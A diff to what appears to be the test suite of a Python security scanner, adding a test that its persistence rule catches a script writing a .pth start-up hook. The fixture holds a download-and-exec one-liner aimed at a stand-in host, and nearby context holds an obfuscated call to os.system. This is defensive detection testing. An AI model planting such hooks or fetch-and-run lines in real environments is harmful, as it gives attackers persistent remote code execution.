@@ -141,6 +141,20 @@ def test_writes_to_folded_control_paths(source: str, rule: str) -> None:
     assert rule in _rules(source)
 
 
+def test_a_pth_start_up_hook_is_persistence_and_its_code_is_scanned() -> None:
+    hook = "import os;exec(__import__('urllib.request').request.urlopen('https://x.example.net/s').read())"
+    source = (
+        "import site, pathlib\n"
+        "sp = pathlib.Path(site.getsitepackages()[0])\n"
+        f"(sp / 'zz-sync.pth').write_text({hook!r})\n"
+    )
+    found = _scan({"scripts/tool.py": source})
+    assert any(f.rule == "python.persistence" for f in found)
+    assert any(f.severity == "critical" and "#L3.py" in f.file for f in found)
+    plain = "import pathlib\npathlib.Path('build/paths.txt').write_text('src')\n"
+    assert "python.persistence" not in _rules(plain)
+
+
 def test_hidden_lookup_of_a_runner_is_critical() -> None:
     found = _scan({"t.py": "import os\ngetattr(os, 'sy' + 'stem')('id')\n"})
     assert any(f.rule == "python.dynamic_import" and f.severity == "critical" for f in found)
